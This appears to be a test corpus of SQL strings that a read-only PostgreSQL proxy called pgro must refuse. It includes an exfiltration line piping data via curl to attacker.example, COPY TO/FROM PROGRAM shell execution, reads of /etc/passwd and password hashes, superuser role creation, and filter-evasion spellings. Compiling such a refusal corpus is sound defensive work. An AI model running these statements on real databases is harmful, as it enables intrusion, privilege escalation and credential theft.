--# Strings pgro must refuse. One entry per block, blocks separated by a line "-- ----";
--# lines starting with "--#" are notes for readers and are not part of the SQL.
--# Every entry must be refused by classify() (any refusal kind): security_corpus_test
--# asserts it, and the integration test replays them through pgro against PostgreSQL.
--#
--# == Plain writes and DDL (DESIGN section 3, layer 2) ==
INSERT INTO t VALUES (1, 'a', 1)
-- ----
insert into public.t (id) select 2
-- ----
INSERT INTO t VALUES (3) ON CONFLICT (id) DO UPDATE SET name = 'x'
-- ----
UPDATE t SET name = 'x' WHERE id = 1
-- ----
UPDATE t SET v = v + 1 FROM tt WHERE tt.x = t.name RETURNING *
-- ----
DELETE FROM t
-- ----
DELETE FROM ONLY t USING tt WHERE tt.x = t.name
-- ----
MERGE INTO t USING tt ON t.name = tt.x WHEN MATCHED THEN UPDATE SET v = 0 WHEN NOT MATCHED THEN INSERT (id) VALUES (9)
-- ----
TRUNCATE t
-- ----
TRUNCATE TABLE t, tt RESTART IDENTITY CASCADE
-- ----
CREATE TABLE x (a int)
-- ----
CREATE TEMP TABLE x (a int)
-- ----
CREATE TEMPORARY TABLE x AS SELECT 1
-- ----
CREATE UNLOGGED TABLE x (a int)
-- ----
CREATE TABLE x AS SELECT * FROM t
-- ----
CREATE TABLE IF NOT EXISTS x (LIKE t)
-- ----
CREATE MATERIALIZED VIEW mv AS SELECT * FROM t
-- ----
CREATE VIEW v2 AS SELECT 1
-- ----
CREATE OR REPLACE VIEW v AS SELECT 1 AS id
-- ----
CREATE INDEX CONCURRENTLY ON t (name)
-- ----
CREATE SEQUENCE s2
-- ----
CREATE SCHEMA evil
-- ----
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'
-- ----
CREATE OR REPLACE FUNCTION public.do_write() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$
-- ----
CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$
-- ----
CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()
-- ----
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1
-- ----
CREATE EXTENSION IF NOT EXISTS dblink
-- ----
CREATE EXTENSION adminpack
-- ----
CREATE TYPE mood2 AS ENUM ('a')
-- ----
CREATE DOMAIN d AS int
-- ----
CREATE ROLE attacker LOGIN SUPERUSER PASSWORD 'x'
-- ----
CREATE USER attacker
-- ----
CREATE DATABASE evil
-- ----
CREATE TABLESPACE ts LOCATION '/tmp'
-- ----
CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw
-- ----
CREATE USER MAPPING FOR PUBLIC SERVER srv OPTIONS (password 'x')
-- ----
CREATE PUBLICATION pub FOR ALL TABLES
-- ----
CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION pub
-- ----
CREATE POLICY p ON t USING (true)
-- ----
CREATE STATISTICS st ON id, name FROM t
-- ----
CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()
-- ----
CREATE CAST (text AS int) WITH INOUT
-- ----
CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)
-- ----
CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)
-- ----
DROP TABLE t
-- ----
DROP TABLE IF EXISTS t CASCADE
-- ----
DROP VIEW v
-- ----
DROP SCHEMA public CASCADE
-- ----
DROP DATABASE postgres
-- ----
DROP ROLE postgres
-- ----
DROP OWNED BY postgres
-- ----
REASSIGN OWNED BY postgres TO pg_monitor
-- ----
DROP FUNCTION s.g(int)
-- ----
DROP INDEX t_name
-- ----
DROP SEQUENCE sq
-- ----
DROP EXTENSION plpgsql
-- ----
ALTER TABLE t ADD COLUMN x int
-- ----
ALTER TABLE t RENAME TO t2
-- ----
ALTER TABLE t OWNER TO pg_monitor
-- ----
ALTER TABLE t SET SCHEMA s
-- ----
ALTER TABLE t DISABLE TRIGGER ALL
-- ----
ALTER TABLE t ENABLE ROW LEVEL SECURITY
-- ----
ALTER INDEX t_name RENAME TO t_idx
-- ----
ALTER SEQUENCE sq RESTART WITH 1
-- ----
ALTER VIEW v RENAME TO v2
-- ----
ALTER ROLE postgres PASSWORD 'owned'
-- ----
ALTER USER postgres WITH PASSWORD 'owned'
-- ----
ALTER ROLE postgres SET default_transaction_read_only = off
-- ----
ALTER DATABASE postgres SET default_transaction_read_only = off
-- ----
ALTER SYSTEM SET default_transaction_read_only = off
-- ----
ALTER SYSTEM RESET ALL
-- ----
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
-- ----
ALTER FUNCTION s.g(int) SECURITY DEFINER
-- ----
ALTER EXTENSION plpgsql UPDATE
-- ----
ALTER TYPE mood ADD VALUE 'c'
-- ----
GRANT ALL ON t TO PUBLIC
-- ----
GRANT pg_read_server_files TO PUBLIC
-- ----
REVOKE ALL ON t FROM PUBLIC
-- ----
COMMENT ON TABLE t IS 'owned'
-- ----
SECURITY LABEL FOR selinux ON TABLE t IS 'x'
-- ----
IMPORT FOREIGN SCHEMA public FROM SERVER srv INTO public
-- ----
--# == Maintenance and server state ==
VACUUM
-- ----
VACUUM FULL t
-- ----
VACUUM (ANALYZE, VERBOSE) t
-- ----
ANALYZE
-- ----
ANALYZE t
-- ----
ANALYSE t (id)
-- ----
CHECKPOINT
-- ----
REINDEX TABLE t
-- ----
REINDEX DATABASE postgres
-- ----
CLUSTER t USING t_pkey
-- ----
REFRESH MATERIALIZED VIEW mv
-- ----
NOTIFY channel, 'payload'
-- ----
LISTEN channel
-- ----
LOAD 'auto_explain'
-- ----
DO $$ BEGIN DELETE FROM t; END $$
-- ----
DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$
-- ----
do 'begin perform pg_terminate_backend(1); end'
-- ----
CALL p()
-- ----
CALL public.some_procedure(1, 'x')
-- ----
SET CONSTRAINTS ALL DEFERRED
-- ----
PREPARE TRANSACTION 'gid'
-- ----
COMMIT PREPARED 'gid'
-- ----
ROLLBACK PREPARED 'gid'
-- ----
--# == SELECT INTO and locking clauses ==
SELECT * INTO x FROM t
-- ----
SELECT id INTO TEMP TABLE x FROM t
-- ----
SELECT 1 AS a INTO UNLOGGED x
-- ----
SELECT * FROM t FOR UPDATE
-- ----
SELECT * FROM t FOR NO KEY UPDATE NOWAIT
-- ----
SELECT * FROM t FOR SHARE SKIP LOCKED
-- ----
SELECT * FROM t FOR KEY SHARE OF t
-- ----
SELECT * FROM (SELECT * FROM t FOR UPDATE) s
-- ----
WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x
-- ----
SELECT * FROM t WHERE id IN (SELECT id FROM t FOR UPDATE)
-- ----
--# == Writes hidden in CTEs, subqueries and wrappers ==
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x
-- ----
WITH x AS (UPDATE t SET v = 0 RETURNING id) SELECT count(*) FROM x
-- ----
WITH x AS (DELETE FROM t RETURNING *) SELECT 1
-- ----
WITH a AS (SELECT 1), b AS (SELECT 2), c AS (DELETE FROM t RETURNING 1) SELECT * FROM a, b
-- ----
WITH RECURSIVE r AS (SELECT 1), w AS (INSERT INTO tt VALUES ('x') RETURNING x) SELECT * FROM r
-- ----
SELECT * FROM (WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d) s
-- ----
SELECT (WITH d AS (DELETE FROM t RETURNING id) SELECT count(*) FROM d)
-- ----
WITH outer_cte AS (WITH inner_cte AS (UPDATE t SET v = 1 RETURNING id) SELECT * FROM inner_cte) SELECT * FROM outer_cte
-- ----
WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
-- ----
WITH x AS (SELECT 1) UPDATE t SET v = 2
-- ----
WITH x AS (SELECT 1) DELETE FROM t
-- ----
EXPLAIN ANALYZE INSERT INTO t VALUES (1)
-- ----
EXPLAIN ANALYZE DELETE FROM t
-- ----
EXPLAIN (ANALYZE true) UPDATE t SET v = 0
-- ----
EXPLAIN (ANALYZE, BUFFERS) WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x
-- ----
EXPLAIN INSERT INTO t VALUES (1)
-- ----
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
-- ----
EXPLAIN ANALYZE SELECT * INTO x FROM t
-- ----
EXPLAIN ANALYZE CREATE MATERIALIZED VIEW mv AS SELECT 1
-- ----
EXPLAIN ANALYZE SELECT pg_terminate_backend(1)
-- ----
EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE
-- ----
PREPARE w AS INSERT INTO t VALUES ($1)
-- ----
PREPARE w (int) AS DELETE FROM t WHERE id = $1
-- ----
PREPARE w AS UPDATE t SET v = 0
-- ----
PREPARE w AS WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d
-- ----
PREPARE w AS SELECT pg_read_file('/etc/passwd')
-- ----
PREPARE w AS SELECT * FROM t FOR UPDATE
-- ----
PREPARE w AS MERGE INTO t USING tt ON true WHEN MATCHED THEN DELETE
-- ----
EXECUTE q(pg_terminate_backend(1))
-- ----
DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE
-- ----
DECLARE c CURSOR FOR SELECT lo_import('/etc/passwd')
-- ----
DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
-- ----
--# == Multi-statement strings: one bad statement refuses all ==
SELECT 1; INSERT INTO t VALUES (1)
-- ----
SELECT 1; SELECT 2; DROP TABLE t
-- ----
BEGIN; DELETE FROM t; COMMIT
-- ----
SELECT 'a;b'; DELETE FROM t
-- ----
SELECT $$;$$; DELETE FROM t
-- ----
SELECT 1 /* ; */ ; UPDATE t SET v = 0
-- ----
SELECT 1 -- comment
; TRUNCATE t
-- ----
SHOW search_path; SET ROLE postgres
-- ----
SELECT '\'; DELETE FROM t; --'
-- ----
COMMIT; VACUUM
-- ----
SELECT 1;;;DROP TABLE t
-- ----
--# == COPY ==
COPY t FROM STDIN
-- ----
COPY t FROM '/etc/passwd'
-- ----
COPY t FROM PROGRAM 'id'
-- ----
COPY t TO '/tmp/t.csv'
-- ----
COPY t TO PROGRAM 'curl -d @- http://attacker.example'
-- ----
COPY (SELECT * FROM t) TO '/tmp/out'
-- ----
COPY (SELECT 1) TO PROGRAM 'sh -c id'
-- ----
COPY (INSERT INTO t VALUES (1) RETURNING *) TO STDOUT
-- ----
COPY (DELETE FROM t RETURNING *) TO STDOUT
-- ----
COPY (UPDATE t SET v = 0 RETURNING id) TO STDOUT
-- ----
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT
-- ----
COPY pg_authid TO STDOUT
-- ----
copy t (id) from stdin with (format csv)
-- ----
--# == LOCK in anything but ACCESS SHARE ==
LOCK TABLE t
-- ----
LOCK t IN ACCESS EXCLUSIVE MODE
-- ----
LOCK TABLE t IN ROW EXCLUSIVE MODE
-- ----
LOCK TABLE t IN SHARE MODE NOWAIT
-- ----
LOCK TABLE t IN SHARE UPDATE EXCLUSIVE MODE
-- ----
LOCK TABLE t IN EXCLUSIVE MODE
-- ----
LOCK TABLE t IN ROW SHARE MODE
-- ----
LOCK TABLE pg_authid IN ACCESS SHARE MODE
-- ----
--# == Functions with side effects behind SELECT (layer 3), every position ==
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
-- ----
SELECT pg_cancel_backend(1)
-- ----
SELECT pg_reload_conf()
-- ----
SELECT pg_rotate_logfile()
-- ----
SELECT pg_switch_wal()
-- ----
SELECT pg_create_restore_point('x')
-- ----
SELECT pg_backup_start('x')
-- ----
SELECT pg_backup_stop()
-- ----
SELECT pg_promote()
-- ----
SELECT pg_wal_replay_pause()
-- ----
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
-- ----
SELECT * FROM pg_create_logical_replication_slot('s', 'test_decoding')
-- ----
SELECT pg_create_physical_replication_slot('s')
-- ----
SELECT pg_drop_replication_slot('s')
-- ----
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
-- ----
SELECT pg_replication_origin_create('o')
-- ----
SELECT pg_logical_emit_message(true, 'prefix', 'x')
-- ----
SELECT pg_stat_reset()
-- ----
SELECT pg_stat_reset_shared('bgwriter')
-- ----
SELECT pg_stat_reset_single_table_counters('t'::regclass)
-- ----
SELECT pg_stat_statements_reset()
-- ----
SELECT pg_read_file('/etc/passwd')
-- ----
SELECT pg_read_file('postgresql.conf', 0, 100000)
-- ----
SELECT pg_read_binary_file('global/1260')
-- ----
SELECT * FROM pg_ls_dir('.')
-- ----
SELECT * FROM pg_ls_waldir()
-- ----
SELECT * FROM pg_ls_logdir()
-- ----
SELECT pg_stat_file('postgresql.conf')
-- ----
SELECT pg_file_write('x', 'y', false)
-- ----
SELECT lo_import('/etc/passwd')
-- ----
SELECT lo_export(16384, '/tmp/x')
-- ----
SELECT lo_create(0)
-- ----
SELECT lo_creat(-1)
-- ----
SELECT lo_unlink(16384)
-- ----
SELECT lo_from_bytea(0, 'x')
-- ----
SELECT lo_put(16384, 0, 'x')
-- ----
SELECT loread(lo_open(16384, 262144), 100)
-- ----
SELECT lowrite(0, 'x')
-- ----
SELECT pg_advisory_lock(1)
-- ----
SELECT pg_advisory_xact_lock(1)
-- ----
SELECT pg_try_advisory_lock(1)
-- ----
SELECT pg_notify('channel', 'payload')
-- ----
SELECT txid_current()
-- ----
SELECT txid_current_if_assigned()
-- ----
SELECT pg_current_xact_id()
-- ----
SELECT nextval('sq')
-- ----
SELECT setval('sq', 1)
-- ----
SELECT nextval('sq'::regclass) FROM generate_series(1, 10)
-- ----
SELECT dblink('host=127.0.0.1', 'SELECT 1')
-- ----
SELECT dblink_exec('dbname=postgres', 'DROP TABLE t')
-- ----
SELECT * FROM dblink('dbname=postgres', 'DELETE FROM t RETURNING id') AS x(id int)
-- ----
SELECT query_to_xml('SELECT rolpassword FROM pg_authid', true, true, '')
-- ----
SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')
-- ----
--# tablefunc / xml2: text arguments that run as SQL (the extension may be created after pgro started)
SELECT * FROM crosstab('DELETE FROM t RETURNING 1, 2, 3') AS c(a int, b int, c int)
-- ----
SELECT * FROM public.connectby('t', 'id', 'name', '1', 0) AS c(id int, parent int, level int)
-- ----
SELECT * FROM xpath_table('id', 'x', 't', '/a', 'true') AS x(id int, a text)
-- ----
SELECT table_to_xml('pg_authid', true, true, '')
-- ----
SELECT database_to_xml(true, true, '')
-- ----
SELECT schema_to_xml('pg_catalog', true, true, '')
-- ----
SELECT cursor_to_xml('c', 10, true, true, '')
-- ----
SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')
-- ----
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
-- ----
SELECT pg_import_system_collations('pg_catalog')
-- ----
SELECT binary_upgrade_set_next_pg_type_oid(1)
-- ----
SELECT brin_summarize_new_values('t_name')
-- ----
SELECT gin_clean_pending_list('t_name')
-- ----
SELECT pg_extension_config_dump('t', '')
-- ----
SELECT 1 FROM t WHERE pg_terminate_backend(1)
-- ----
SELECT * FROM t a JOIN t b ON pg_cancel_backend(a.id)
-- ----
SELECT * FROM t ORDER BY pg_reload_conf()
-- ----
SELECT name FROM t GROUP BY name, lo_create(0)
-- ----
SELECT count(*) FROM t HAVING pg_notify('a', 'b') IS NULL
-- ----
SELECT * FROM t LIMIT pg_advisory_lock(1)::int
-- ----
SELECT * FROM t OFFSET txid_current()
-- ----
VALUES (pg_switch_wal())
-- ----
VALUES (1), (nextval('sq'))
-- ----
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) x
-- ----
SELECT * FROM t, LATERAL (SELECT pg_read_file('/etc/passwd')) x
-- ----
SELECT * FROM t CROSS JOIN LATERAL pg_ls_dir('.') d
-- ----
SELECT (SELECT nextval('sq'))
-- ----
SELECT EXISTS (SELECT setval('sq', 1))
-- ----
WITH x AS (SELECT pg_stat_reset()) SELECT * FROM x
-- ----
WITH x AS NOT MATERIALIZED (SELECT lo_unlink(1)) SELECT 1
-- ----
SELECT CASE WHEN random() > 2 THEN pg_promote() END
-- ----
SELECT COALESCE(NULL, lo_import('/etc/passwd'))
-- ----
SELECT NULLIF(pg_advisory_lock(1)::text, 'x')
-- ----
SELECT GREATEST(1, txid_current())
-- ----
SELECT CAST(pg_read_file('/etc/passwd') AS text)
-- ----
SELECT pg_read_file('/etc/passwd')::text
-- ----
SELECT ARRAY[pg_ls_dir('.')]
-- ----
SELECT ROW(txid_current(), 1)
-- ----
SELECT count(*) FILTER (WHERE pg_notify('a', 'b') IS NULL) FROM t
-- ----
SELECT sum(id) OVER (PARTITION BY pg_advisory_lock(1)) FROM t
-- ----
SELECT sum(id) OVER (ORDER BY nextval('sq')) FROM t
-- ----
SELECT string_agg(name, ',' ORDER BY txid_current()) FROM t
-- ----
SELECT array_agg(id) FILTER (WHERE lo_unlink(id) = 1) FROM t
-- ----
SELECT * FROM t WHERE id IN (SELECT nextval('sq'))
-- ----
SELECT * FROM t WHERE id = ANY (ARRAY[pg_advisory_lock(1)::int])
-- ----
SELECT * FROM t TABLESAMPLE BERNOULLI (pg_advisory_lock(1)::int)
-- ----
SELECT xmlelement(name x, pg_read_file('/etc/passwd'))
-- ----
SELECT json_build_object('k', pg_read_file('/etc/passwd'))
-- ----
SELECT format('%s', pg_reload_conf())
-- ----
SELECT 1 WHERE EXISTS (SELECT 1 FROM (SELECT pg_terminate_backend(1)) s)
-- ----
SELECT * FROM t WHERE name = (SELECT pg_read_file('/etc/hostname'))
-- ----
SELECT id FROM t UNION SELECT pg_cancel_backend(1)::int
-- ----
(SELECT 1) UNION ALL (SELECT txid_current()::int)
-- ----
SELECT generate_series(1, nextval('sq')::int)
-- ----
SELECT pg_sleep(1), pg_terminate_backend(1)
-- ----
--# pg_sleep holds a pooled connection doing nothing (ALLOW_PG_SLEEP=false, the default).
SELECT pg_sleep(0.01)
-- ----
SELECT pg_catalog."pg_sleep"(1)
-- ----
SELECT * FROM pg_sleep_for('1 second')
-- ----
SELECT 1 FROM (SELECT 1) t, LATERAL pg_catalog.pg_sleep_until(now() + interval '1 second')
-- ----
WITH s AS (SELECT pg_sleep(1)) SELECT * FROM s
-- ----
EXPLAIN ANALYZE SELECT pg_sleep(1)
-- ----
SELECT (1).pg_sleep
-- ----
SELECT * FROM t GROUP BY GROUPING SETS ((name), (lo_create(0)))
-- ----
SELECT DISTINCT ON (pg_advisory_lock(1)) id FROM t
-- ----
SELECT (pg_catalog.txid_current())
-- ----
SELECT * FROM unnest(ARRAY[1]) WITH ORDINALITY AS u(a, n), LATERAL (SELECT setval('sq', a)) z
-- ----
SELECT * FROM json_to_record(pg_read_file('/tmp/x.json')::json) AS x(a int)
-- ----
--# == Spelling tricks: qualification, quoting, case, unicode escapes, comments ==
SELECT pg_catalog.pg_terminate_backend(1)
-- ----
SELECT PG_CATALOG.PG_TERMINATE_BACKEND(1)
-- ----
SELECT "pg_terminate_backend"(1)
-- ----
SELECT "pg_catalog"."pg_read_file"('/etc/passwd')
-- ----
SELECT "PG_READ_FILE"('/etc/passwd')
-- ----
SELECT pg_catalog.PG_READ_FILE('/etc/passwd')
-- ----
SELECT U&"pg_r\0065ad_file"('/etc/passwd')
-- ----
SELECT U&"!0070g_ls_dir" UESCAPE '!' ('.')
-- ----
SELECT pg_catalog . /* hidden */ pg_reload_conf()
-- ----
SELECT pg_catalog -- newline
.pg_switch_wal()
-- ----
SELECT postgres.pg_catalog.pg_switch_wal()
-- ----
SELECT public.nextval('sq')
-- ----
SELECT "LO_IMPORT"('/etc/passwd')
-- ----
SELECT lo_import/**/('/etc/passwd')
-- ----
sElEcT Pg_NoTiFy('a', 'b')
-- ----
SELECT DBLINK('host=x', 'select 1')
-- ----
SELECT * FROM "pg_authid"
-- ----
SELECT * FROM PG_CATALOG.PG_AUTHID
-- ----
SELECT * FROM U&"pg_\0061uthid"
-- ----
SELECT * FROM "PG_SHADOW"
-- ----
SELECT $q$x$q$, pg_read_file($q$/etc/passwd$q$)
-- ----
SELECT pg_read_file(E'\x2fetc/passwd')
-- ----
SELECT pg_read_file(chr(47) || 'etc/passwd')
-- ----
--# == Attribute notation: (x).f calls f(x) ==
SELECT ('/etc/hostname'::text).pg_read_file
-- ----
SELECT (x).pg_read_file FROM tt
-- ----
SELECT ('postgresql.conf'::text).pg_stat_file
-- ----
SELECT (1).lo_unlink
-- ----
SELECT (1234).pg_terminate_backend
-- ----
SELECT ('sq'::regclass).nextval
-- ----
SELECT (('sq')::regclass).nextval
-- ----
SELECT ('.'::text).pg_ls_dir
-- ----
--# == set_config and the GUC tricks of DESIGN section 3 ==
SELECT set_config('default_transaction_read_only', 'off', false)
-- ----
SELECT pg_catalog.set_config('transaction_read_only', 'off', true)
-- ----
SELECT set_config('default_transaction_read_only', 'false', false)
-- ----
SELECT "set_config"('default_transaction_read_only', 'no', false)
-- ----
SELECT set_config('role', 'postgres', false)
-- ----
SELECT set_config('session_authorization', 'postgres', false)
-- ----
SELECT set_config('session_replication_role', 'replica', false)
-- ----
SELECT set_config('standard_conforming_strings', 'off', false)
-- ----
SELECT set_config('client_encoding', 'SJIS', false)
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'default_transaction_read_only'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings
-- ----
SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'search_path'
-- ----
SELECT set_config('default_transaction_' || 'read_only', 'off', false)
-- ----
SELECT set_config(lower('ROLE'), 'postgres', false)
-- ----
SELECT set_config('search_path', current_user, false)
-- ----
SELECT set_config('search_path', 'public', random() < 0.5)
-- ----
SELECT set_config('log_statement', 'none', false)
-- ----
SELECT set_config('my.custom', 'x', false)
-- ----
SELECT 1 WHERE set_config('default_transaction_read_only', 'off', false) IS NOT NULL
-- ----
SELECT * FROM t ORDER BY set_config('transaction_read_only', 'off', true)
-- ----
--# == SET / RESET outside the allowlist, READ WRITE in any spelling (layer 4) ==
SET transaction_read_only = off
-- ----
SET transaction_read_only TO false
-- ----
SET LOCAL transaction_read_only = 0
-- ----
SET default_transaction_read_only TO false
-- ----
SET default_transaction_read_only = 'off'
-- ----
SET SESSION default_transaction_read_only = no
-- ----
set DEFAULT_TRANSACTION_READ_ONLY = 'OF'
-- ----
SET "default_transaction_read_only" = off
-- ----
--# Measured on PostgreSQL 15 with default_transaction_read_only=on: each of the next five
--# makes the (implicit or explicit) transaction READ WRITE.
RESET transaction_read_only
-- ----
BEGIN; RESET transaction_read_only; SELECT 1; COMMIT
-- ----
SET transaction_read_only TO DEFAULT
-- ----
SET LOCAL transaction_read_only = DEFAULT
-- ----
SELECT set_config('transaction_read_only', NULL, true)
-- ----
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- ----
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE
-- ----
SET ROLE postgres
-- ----
SET ROLE NONE
-- ----
SET LOCAL ROLE pg_read_server_files
-- ----
RESET ROLE
-- ----
SET SESSION AUTHORIZATION postgres
-- ----
SET SESSION AUTHORIZATION DEFAULT
-- ----
RESET SESSION AUTHORIZATION
-- ----
SET session_replication_role = replica
-- ----
SET standard_conforming_strings = off
-- ----
SET standard_conforming_strings TO false
-- ----
SET client_encoding = 'SJIS'
-- ----
SET client_encoding TO 'Shift_JIS_2004'
-- ----
SET NAMES 'BIG5'
-- ----
SET client_encoding = 'GBK'
-- ----
SET client_encoding = 'GB18030'
-- ----
SET client_encoding = 'UHC'
-- ----
SET client_encoding = 'JOHAB'
-- ----
SET client_encoding = 'WIN932'
-- ----
SET backslash_quote = on
-- ----
SET log_statement = 'none'
-- ----
SET log_min_duration_statement = -1
-- ----
SET temp_tablespaces = 'x'
-- ----
SET lc_messages = 'C'
-- ----
SET my.custom_setting = 'x'
-- ----
SET pgro.unknown = on
-- ----
SET pgro.cache = sometimes
-- ----
SET allow_system_table_mods = on
-- ----
SET zero_damaged_pages = on
-- ----
SET TIME ZONE INTERVAL '-08:00' HOUR TO MINUTE
-- ----
SET work_mem FROM CURRENT
-- ----
RESET session_replication_role
-- ----
--# == Secrets ==
SELECT rolname, rolpassword FROM pg_authid
-- ----
SELECT * FROM pg_catalog.pg_authid WHERE rolsuper
-- ----
SELECT usename, passwd FROM pg_shadow
-- ----
TABLE pg_shadow
-- ----
TABLE pg_catalog.pg_authid
-- ----
SELECT * FROM pg_user_mappings
-- ----
SELECT umoptions FROM pg_catalog.pg_user_mapping
-- ----
SELECT r.rolname FROM pg_roles r JOIN pg_authid a ON a.oid = r.oid
-- ----
SELECT * FROM t WHERE EXISTS (SELECT 1 FROM pg_authid WHERE rolpassword LIKE 'SCRAM%')
-- ----
WITH p AS (SELECT rolpassword FROM pg_authid) SELECT * FROM p
-- ----
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
-- ----
SELECT * FROM t, LATERAL (SELECT rolpassword FROM pg_authid) a
-- ----
DECLARE c CURSOR FOR SELECT rolpassword FROM pg_authid
-- ----
PREPARE s AS SELECT rolpassword FROM pg_authid
-- ----
EXPLAIN ANALYZE SELECT * FROM pg_authid
-- ----
--# == Valid SQL pgro cannot serve safely (0A000) ==
PREPARE p AS SELECT set_config('search_path', 'public', false)
-- ----
DECLARE c CURSOR FOR SELECT set_config('work_mem', '1MB', false)
-- ----
EXPLAIN DECLARE c CURSOR FOR SELECT 1
-- ----
--# == Strings that do not parse: refused, fail closed ==
SELEC 1
-- ----
SELECT FROM WHERE
-- ----
SELECT 1; DELETE FROM
-- ----
SELECT 'unterminated
-- ----
SELECT $$unterminated
-- ----
SELECT 1 /* unterminated comment
-- ----
SELECT "unterminated
-- ----
INSERT INTO
-- ----
SELECT 1 \; DELETE FROM t
-- ----
)
-- ----
SELECT U&'\zzzz'
-- ----
DELETE
-- ----
--# == Settings whose values may hold credentials (restore_command, archive_command, extension
--# secrets): readable by every role in PostgreSQL 15, so pgro refuses every read of them ==
SHOW restore_command
-- ----
SHOW archive_command
-- ----
SHOW ALL
-- ----
SELECT current_setting('restore_command')
-- ----
SELECT pg_catalog.current_setting('ARCHIVE_COMMAND', true)
-- ----
SELECT name, setting FROM pg_settings
-- ----
SELECT name FROM pg_settings WHERE setting LIKE 'scp%'
-- ----
SELECT to_json(s) FROM pg_catalog.pg_settings s
-- ----
SELECT * FROM pg_show_all_settings()
-- ----
SELECT setting::int FROM pg_settings WHERE name IN ('work_mem', 'restore_command')
-- ----
--# psql's \dconfig: every setting changed from its default
SELECT s.name AS "Parameter", pg_catalog.current_setting(s.name) AS "Value"
FROM pg_catalog.pg_settings s
WHERE s.source <> 'default' AND
      s.setting IS DISTINCT FROM s.boot_val
ORDER BY 1;
